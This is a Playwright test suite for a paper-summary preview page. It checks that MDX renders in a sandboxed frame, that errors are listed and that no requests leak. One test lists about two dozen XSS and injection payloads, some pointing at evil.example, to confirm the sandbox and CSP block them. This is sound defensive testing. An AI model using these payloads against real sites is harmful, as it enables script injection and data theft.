import { readFileSync } from 'node:fs';
import { AxeBuilder } from '@axe-core/playwright';
import { expect, test, type FrameLocator, type Page } from 'playwright/test';
import { isFull, listen } from './pages.ts';

const head = `---
title: A Test of $x^2$
authors: [Ada Quill, Wen Li]
published: 2026-03-22
summarised: 2026-03-30
arxiv: 2603.99999v1
categories: [cs.LG]
tags: [memory]
tldr: It works.
abstract: It works, and nobody knows why.
writers: [Ada Quill]
---

`;
const good = `${head}## The key idea

The sum of $a_i$ is in equation \\eqref{sum}.

$$
s = \\sum_i a_i
\\label{sum}
$$
`;

const text = (page: Page) => page.getByRole('textbox', { name: 'The file, index.mdx' });
const count = (page: Page) => page.locator('[data-part="count"]');
const sheet = (page: Page): FrameLocator => page.frameLocator('iframe[title="Your page"]');

async function open(page: Page): Promise<void> {
  await page.goto('contribute/preview/');
  await expect(text(page)).toBeVisible();
  // The worker is the largest file of the site.
  await expect(page.getByLabel('Issue', { exact: true })).not.toHaveValue('', { timeout: 20_000 });
}

async function show(page: Page, written: string, said: RegExp | string): Promise<void> {
  await text(page).fill(written);
  await expect(count(page)).toHaveText(said, { timeout: 20_000 });
}

/** What is asked of any server from here on. */
function watch(page: Page): string[] {
  const asked: string[] = [];
  page.on('request', (request) => {
    // A letter may want a font that no text before it had.
    const isFont =
      request.url().startsWith(new URL(page.url()).origin) && request.resourceType() === 'font';
    if (/^https?:/.test(request.url()) && !isFont) asked.push(request.url());
  });
  return asked;
}

test('a good text is shown as its page, without a problem', async ({ page }) => {
  const faults = await listen(page);
  await open(page);
  await show(page, good, 'No problems');
  const shown = sheet(page);
  await expect(shown.getByRole('heading', { level: 1 })).toContainText('A Test of');
  await expect(shown.locator('h1 .katex').first()).toBeVisible();
  await expect(shown.getByRole('heading', { name: 'The key idea' })).toBeVisible();
  await expect(shown.locator('.formula')).toBeVisible();
  // Fonts and stylesheets reach the frame, and so does the theme.
  await expect(shown.locator('h1')).toHaveCSS('font-family', /Source Serif 4/);
  const fonts = () =>
    shown
      .locator('body')
      .evaluate(async (body) => (await body.ownerDocument.fonts.load('16px KaTeX_Main')).length);
  await expect.poll(fonts).toBeGreaterThan(0);
  await page.emulateMedia({ colorScheme: 'dark' });
  const ground = () =>
    shown.locator('html').evaluate((html) => getComputedStyle(html).backgroundColor);
  await expect.poll(ground).toBe('rgb(19, 26, 38)');
  await page.getByRole('button', { name: 'Settings' }).click();
  await page.getByRole('radio', { name: 'Light' }).check();
  await expect.poll(ground).toBe('rgb(253, 253, 251)');
  expect(faults).toEqual([]);
});

test('a link in the frame leads to a place of the text, and nowhere else', async ({ page }) => {
  await open(page);
  const links = `${good}${'\n\nMore.'.repeat(60)}\n\n[Out](https://example.org/)\n`;
  await show(page, links, 'No problems');
  const asked = watch(page);
  const shown = sheet(page);
  await shown.getByRole('link', { name: 'Out' }).click();
  await shown.locator('a.reference').first().click();
  await expect(shown.locator('.formula')).toBeInViewport();
  expect(page.frames()).toHaveLength(2);
  expect(asked).toEqual([]);
});

test('mistakes are listed with places that lead to them', async ({ page }) => {
  await open(page);
  const faulty = `${good.replace('tags: [memory]', 'tags: [memroy]')}\nA line<br>and $\\fraq{1}{2}$.\n`;
  await show(page, faulty, '3 errors');
  const problems = page.locator('[data-part="problems"] li');
  await expect(problems).toHaveCount(3);
  await expect(problems.nth(0)).toContainText('There is no tag memroy.');
  await expect(problems.nth(0)).toContainText('Write memory');
  await expect(problems.nth(0).getByRole('link')).toHaveAttribute(
    'href',
    /contribute\/errors\/#unknown-tag$/,
  );
  await problems.nth(1).getByRole('button').click();
  await expect(text(page)).toBeFocused();
  const selected = () =>
    text(page).evaluate((area: HTMLTextAreaElement) =>
      area.value.slice(area.selectionStart, area.selectionStart + 4),
    );
  await expect.poll(selected).toBe('<br>');
});

test('nothing in a hostile text runs, and nothing is asked for', async ({ page }) => {
  const faults = await listen(page);
  await open(page);
  await page.evaluate(() => Object.assign(window, { ran: false }));
  await show(page, good, 'No problems');
  const asked = watch(page);
  const texts = [
    '<img src=x onerror="parent.ran=true;ran=true">',
    '<script>parent.ran=true</script>',
    '<svg onload="parent.ran=true"><script>parent.ran=true</script></svg>',
    '[a](javascript:parent.ran=true)',
    '[a](data:text/html,<script>parent.ran=true</script>)',
    '![a](https://evil.example/a.png)',
    '<iframe src="https://evil.example/"></iframe>',
    '<a href="#" onclick="parent.ran=true">a</a>',
    '<style>@import url(https://evil.example/a.css);</style>',
    '<div style="background:url(https://evil.example/a.png)">a</div>',
    '<form action="https://evil.example/"><input name="querySelector"></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/a.css">',
    '<object data="https://evil.example/"></object>',
    '<details ontoggle="parent.ran=true" open>a</details>',
    'import x from "https://evil.example/a.js"',
    'export const a = (parent.ran = true)',
    '{(() => { parent.ran = true })()}',
    '{`${fetch("https://evil.example/")}`}',
    '$\\href{javascript:parent.ran=true}{x}$',
    '$\\includegraphics{https://evil.example/a.png}$',
    '$\\htmlData{a=b}{x}$ $\\htmlStyle{background:url(https://evil.example/)}{x}$',
    '<Figure src="https://evil.example/a.png" alt="A line that rises." />',
    '<Video src="javascript:parent.ran=true" alt="A line that rises." />',
    '<Figure src="./x.png" alt="\\"><img src=x onerror=parent.ran=true>" />',
    '</main></body><script>parent.ran=true</script>',
    '<!-- --><script>parent.ran=true</script> ]]> <![CDATA[',
  ];
  for (const [index, hostile] of texts.entries()) {
    await text(page).fill(`${good}\n${hostile}\n\nMarker ${index}.\n`);
    await expect(count(page)).toHaveText(/error|No problems/);
    // A text that cannot be read as a whole is shown without its end.
    await page.waitForTimeout(350);
  }
  await show(page, `${head.replace('It works.', texts[0]!)}\n${texts.join('\n\n')}\n`, /errors/);
  const title = `"<script>parent.ran=true</script>"`;
  await show(page, good.replace('A Test of $x^2$', title), /error/);
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => (window as unknown as { ran: boolean }).ran)).toBe(false);
  expect(asked).toEqual([]);
  expect(faults).toEqual([]);
  const active = await sheet(page)
    .locator('body')
    .evaluate((body) => body.querySelectorAll('script, iframe, object, form, base, meta').length);
  expect(active).toBe(0);
});

test('even markup that nobody checked runs nothing in the frame', async ({ page }) => {
  await open(page);
  await show(page, good, 'No problems');
  const left: string[] = [];
  await page.route(/evil\.example/, (route) => {
    left.push(route.request().url());
    return route.abort();
  });
  const refused = page.waitForEvent('requestfailed');
  await page.evaluate(() => {
    Object.assign(window, { ran: false });
    const inner = document.querySelector('iframe')!.contentDocument!;
    inner.body.innerHTML =
      '<img src="https://evil.example/a.png" onerror="parent.ran=true"><svg onload="parent.ran=true"></svg>';
    const script = inner.createElement('script');
    script.textContent = 'parent.ran = true';
    inner.body.append(script);
  });
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => (window as unknown as { ran: boolean }).ran)).toBe(false);
  expect(left).toEqual([]);
  expect((await refused).failure()?.errorText).toBe('csp');
});

// How long it takes changes seldom, and to measure it takes long.
if (isFull) {
  test('sixty kilobytes are typed into without a wait', async ({ page }) => {
    await open(page);
    const paragraph = `A paragraph of ${'words and '.repeat(30)} a formula $a_1 + b^2$.\n\n`;
    const long = good + paragraph.repeat(Math.ceil(58_000 / paragraph.length));
    await show(page, long, /No problems|warning/);
    await text(page).focus();
    await text(page).press('Control+End');
    await page.evaluate(() => {
      const waits: number[] = [];
      Object.assign(window, { waits });
      new PerformanceObserver((list) => {
        for (const { duration } of list.getEntries()) waits.push(duration);
      }).observe({ type: 'longtask' });
    });
    await text(page).pressSequentially('One more sentence is typed here.', { delay: 60 });
    await page.waitForTimeout(1500);
    const waits = await page.evaluate(() => (window as unknown as { waits: number[] }).waits);
    // The page itself never sets the text, which takes seconds: that is the worker's. A busy machine is slow.
    expect(Math.max(0, ...waits)).toBeLessThan(1000);
    await expect(sheet(page).locator('p', { hasText: 'One more sentence' })).toHaveCount(1);
  });
}

test('a reload loses neither text nor pictures, and clearing loses both', async ({ page }) => {
  await open(page);
  const picture = '\n<Figure src="./dot.png" alt="A grey square.">\n\nA square.\n\n</Figure>\n';
  await show(page, good + picture, '1 error');
  const buffer = readFileSync('tests/fixtures/digest/papers/2026-01/paper-2/bounces.png');
  const faults = await listen(page);
  await page
    .getByLabel('Open a file')
    .setInputFiles({ name: 'dot.png', mimeType: 'image/png', buffer });
  await expect(count(page)).toHaveText('No problems');
  const image = sheet(page).locator('figure img');
  await expect(image).toHaveAttribute('src', /^blob:/);
  const width = () => image.evaluate((img: HTMLImageElement) => img.naturalWidth);
  await image.scrollIntoViewIfNeeded();
  await expect.poll(width).toBeGreaterThan(0);
  await page.reload();
  await expect(text(page)).toHaveValue(good + picture);
  await expect(count(page)).toHaveText('No problems', { timeout: 20_000 });
  await image.scrollIntoViewIfNeeded();
  await expect.poll(width).toBeGreaterThan(0);
  page.on('dialog', (dialog) => void dialog.accept());
  await page.getByRole('button', { name: 'Clear the page' }).click();
  await page.reload();
  await expect(text(page)).toHaveValue('');
  await expect(page.locator('[data-part="files"] li')).toHaveCount(0);
  expect(faults).toEqual([]);
});

test('files are dropped anywhere on the page', async ({ page }) => {
  await open(page);
  const csv = 'tokens,loss\n1,3\n2,2\n';
  const plot =
    '\n<Plot data="./loss.csv" x="tokens" y="loss" alt="It falls.">\n\nIt falls.\n\n</Plot>\n';
  await page.evaluate(
    ([mdx, numbers]) => {
      const dataTransfer = new DataTransfer();
      dataTransfer.items.add(new File([mdx!], 'index.mdx'));
      dataTransfer.items.add(new File([numbers!], 'loss.csv'));
      dataTransfer.items.add(new File(['GIF89a'], 'a.gif'));
      document
        .querySelector('h1')!
        .dispatchEvent(new DragEvent('drop', { dataTransfer, bubbles: true, cancelable: true }));
    },
    [good + plot, csv],
  );
  await expect(page.locator('[data-part="files"] li')).toHaveText(/loss\.csv/);
  await expect(page.getByRole('status')).toContainText('a.gif was not taken');
  await expect(count(page)).toHaveText('No problems', { timeout: 20_000 });
  await expect(sheet(page).locator('.plot-numbers')).toBeAttached();
});

test('a summary is begun from an arXiv id, and from BibTeX, without asking anybody', async ({
  page,
}) => {
  await open(page);
  const asked = watch(page);
  await page.getByLabel('arXiv id').fill('https://arxiv.org/abs/2501.00663v2');
  await page.getByRole('button', { name: 'Begin a summary' }).click();
  await expect(text(page)).toHaveValue(/^---\n[\s\S]*arxiv: 2501\.00663v2[\s\S]*## The key idea/);
  await expect(page.getByRole('status')).toContainText('npm run new -- paper');
  await page.getByLabel('arXiv id').fill('');
  await text(page).fill(
    '@article{a, title={On $x^2$}, author={Quill, Ada and Li, Wen}, year={2026}, eprint={2603.12345}, archivePrefix={arXiv}}',
  );
  await page.getByRole('button', { name: 'Begin a summary' }).click();
  await expect(text(page)).toHaveValue(/title: On \$x\^2\$[\s\S]*Ada Quill/);
  expect(asked.filter((url) => !url.includes('/_astro/'))).toEqual([]);
});

test('what leaves the page leaves by a press: a file, or the forge’s own page', async ({
  page,
  context,
}) => {
  await open(page);
  await show(page, good, 'No problems');
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Download' }).click(),
  ]);
  expect(download.suggestedFilename()).toBe('index.mdx');
  expect(readFileSync(await download.path(), 'utf8')).toBe(good);
  const send = page.getByRole('button', { name: /^Open it at / });
  await expect(send).toBeVisible();
  await context.route(/github\.com/, (route) => route.fulfill({ body: 'forge' }));
  const [forge] = await Promise.all([context.waitForEvent('page'), send.click()]);
  // A new page has no address before it has begun to load.
  await expect(forge).toHaveURL(/github\.com/);
  const address = new URL(forge.url());
  expect(address.pathname).toMatch(/\/new\/main$/);
  expect(address.searchParams.get('filename')).toMatch(
    /papers\/[\w-]+\/a-test-of-x2?\/index\.mdx$/,
  );
  expect(address.searchParams.get('value')).toBe(good);
});

test('a worker that takes too long is ended, and the next text is read', async ({ page }) => {
  // The worker's answer to this text never comes.
  await page.addInitScript(() => {
    const real = window.Worker;
    window.Worker = class extends real {
      override postMessage(message: unknown): void {
        if (!JSON.stringify(message).includes('Never.')) super.postMessage(message);
      }
    };
  });
  await open(page);
  await show(page, `${good}\nNever.\n`, /took more than two seconds/);
  await show(page, good, 'No problems');
});

if (isFull) {
  test('axe finds nothing, in either theme', async ({ page }) => {
    await open(page);
    await show(page, `${good}\nA line<br>here.\n`, '1 error');
    // What is in the frame answers no script, axe's neither; it is the markup of a paper's page.
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme });
      const { violations } = await new AxeBuilder({ page }).exclude('iframe').analyze();
      expect(violations.map(({ id, nodes }) => `${id}: ${nodes[0]?.html ?? ''}`)).toEqual([]);
    }
  });
}

test.describe('without JavaScript', () => {
  test.use({ javaScriptEnabled: false });
  test('the page says what it needs, and where else to go', async ({ page }) => {
    await page.goto('contribute/preview/');
    await expect(page.getByText('This page needs JavaScript')).toBeVisible();
    await expect(page.getByText('npm run new -- paper 2501.00663')).toBeVisible();
    await expect(page.getByRole('link', { name: 'How to write a summary' })).toBeVisible();
    await expect(page.locator('[data-desk]')).toBeHidden();
  });
});
